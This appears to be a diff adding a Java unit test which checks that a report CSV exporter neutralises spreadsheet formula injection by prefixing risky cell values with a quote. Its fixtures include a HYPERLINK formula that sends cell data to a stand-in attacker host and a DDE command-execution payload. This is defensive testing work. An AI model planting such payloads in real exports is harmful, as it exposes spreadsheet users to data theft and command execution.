@@ -65,4 +65,29 @@ class ReportCsvTests {
                     "false");
         }
     }
+
+    @Test
+    void groupsThatASpreadsheetWouldRunAsAFormulaAreWrittenAsTextWithALeadingQuote() throws IOException {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+        MonthlyReport report = report(List.of(new GroupStats(formula, 12, 0.6, 0.0, 11, 0.5),
+                new GroupStats("+1+cmd|' /C calc'!A0", 1, 0.1, 0.0, 1, 1.0), new GroupStats("-2+3", 1, 0.1, 0.0, 1,
+                        1.0), new GroupStats("@SUM(A1:A9)", 1, 0.1, 0.0, 1, 1.0),
+                new GroupStats("\t=1+1", 1, 0.1, 0.0, 1, 1.0), new GroupStats("\r=1+1", 1, 0.1, 0.0, 1, 1.0)),
+                List.of(new BiasCheck("segment", List.of(new GroupStats("=1+1", 10, 1.0, 0.0, 8, 0.5)), 0.5, 0.0,
+                        true, List.of("gap"), List.of(new GroupGap("=1+1", 8, 0.5, 0.3, true)), List.of("=1+1"))));
+
+        String csv = ReportFormats.csv(report);
+
+        assertThat(csv).contains("department,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",12,")
+                .contains("department,\"'+1+cmd|' /C calc'!A0\",1,").contains("department,\"'-2+3\",1,")
+                .contains("department,\"'@SUM(A1:A9)\",1,").contains("department,\"'\t=1+1\",1,")
+                .contains("department,\"'\r=1+1\",1,").contains("bias:segment,\"'=1+1\",10,1.0000,0.0000,8,0.5000,true\n");
+        CsvMapper reader = CsvMapper.builder().enable(CsvReadFeature.WRAP_AS_ARRAY).build();
+        try (MappingIterator<String[]> rows = reader.readerFor(String[].class).readValues(new StringReader(csv))) {
+            List<String> groups = rows.readAll().stream().skip(1).map(row -> row[1]).toList();
+            assertThat(groups).hasSize(10).allSatisfy(group -> assertThat(group).doesNotStartWith("=").doesNotStartWith("+")
+                            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
+                            .doesNotStartWith("\r"));
+        }
+    }
 }
